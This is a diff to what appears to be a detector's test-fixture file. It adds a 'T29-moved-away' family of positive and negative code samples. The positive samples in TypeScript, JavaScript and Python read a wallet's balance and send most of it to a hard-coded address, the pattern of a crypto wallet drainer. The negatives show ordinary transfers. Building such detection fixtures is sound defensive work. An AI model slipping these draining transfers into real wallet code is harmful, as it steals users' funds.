@@ -115,6 +115,36 @@ export const luresExamples: FamilyExamples = {
       sh("tail -c +2 data.csv | sort"),
     ],
   },
+  "T29-moved-away": {
+    positive: [
+      {
+        "a.ts":
+          'const LANE = new PublicKey("9xLaneTestQ4kPz7yT2uVbN5mXcW9aLhJ3gFdS6eKiU");\nconst held = await c.getBalance(me.publicKey);\nawait go(SystemProgram.transfer({ fromPubkey: me.publicKey, toPubkey: LANE, lamports: Math.floor(held * 0.9) }));\n',
+      },
+      {
+        "a.js":
+          'const REST = "0x1111111111111111111111111111111111111111";\nconst left = await provider.getBalance(me.address);\nawait me.sendTransaction({ to: REST, value: left - cost });\n',
+      },
+      {
+        "a.py":
+          'LANE = Pubkey.from_string("9xLaneTestQ4kPz7yT2uVbN5mXcW9aLhJ3gFdS6eKiU")\nheld = c.get_balance(me.pubkey()).value\ntransfer(TransferParams(from_pubkey=me.pubkey(), to_pubkey=LANE, lamports=held * 9 // 10))\n',
+      },
+    ],
+    negative: [
+      {
+        "a.ts":
+          "const to = new PublicKey(process.argv[2]);\nconst held = await c.getBalance(me.publicKey);\nawait go(SystemProgram.transfer({ fromPubkey: me.publicKey, toPubkey: to, lamports: held * share }));\n",
+      },
+      {
+        "a.ts":
+          'const FEE = new PublicKey("9xLaneTestQ4kPz7yT2uVbN5mXcW9aLhJ3gFdS6eKiU");\nawait go(SystemProgram.transfer({ fromPubkey: me.publicKey, toPubkey: FEE, lamports: 5000 }));\n',
+      },
+      {
+        "a.py":
+          'POOL = "0x1111111111111111111111111111111111111111"\nprint(w3.eth.get_balance(POOL) / 10**18)\n',
+      },
+    ],
+  },
   "T29-swapped-payee": {
     positive: [
       {
